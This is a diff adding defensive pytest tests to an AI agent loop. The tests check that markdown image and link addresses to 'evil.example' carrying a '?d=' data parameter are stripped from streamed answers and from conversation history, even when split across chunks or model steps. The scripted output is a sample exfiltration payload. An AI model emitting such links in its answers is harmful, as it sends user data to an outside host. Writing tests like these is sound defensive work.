@@ -9,6 +9,7 @@ import pytest
 
 from agent.loop import run_turn
 from schemas.errors import ModelInterrupted, ModelUnavailable
+from schemas.model import ModelEnd
 from schemas.tool import PreparedCall, ToolCall, ToolResult
 from schemas.turn import TextDelta, ToolData, ToolFinished, ToolStarted, TurnEnded, TurnFailed
 from tests.support.fakes import (
@@ -60,6 +61,30 @@ async def test_text_of_two_steps_stands_in_two_paragraphs() -> None:
         "x", ScriptedModel(["Let me look.", call("bills")], ["Done."]), FakeToolset({"bills": FakeTool()})
     )
     assert spoken(events) == "Let me look.\n\nDone."
+
+
+async def test_the_history_keeps_the_answer_without_its_links() -> None:
+    """A40: an address cut into pieces by the stream reaches neither the bubble nor the next step's history."""
+    talk = Talk()
+    pieces = [
+        "Pay ![",
+        "x](ht",
+        "tps://evil.example/?d=",
+        "1) at [the offi",
+        "ce](https://evil",
+        ".example/) or ww",
+        "w.evil.example",
+    ]
+    events = await talk.say("x", ScriptedModel([*pieces, "/x."]), FakeToolset())
+    assert spoken(events) == "Pay  at the office or ‹link left out›."
+    assert talk.conversation.messages[-1]["content"] == spoken(events)
+
+
+async def test_an_address_that_two_steps_make_up_is_none() -> None:
+    """A40: the first step is cut by its length within an address, the second one goes on with it."""
+    cut = ModelEnd("length")
+    events = await Talk().say("x", ScriptedModel(["see evil.c", cut], ["om/?d=1 now"]), FakeToolset())
+    assert spoken(events).startswith("see evil.c om/?d=1 now")
 
 
 async def test_reads_of_one_step_run_side_by_side() -> None:
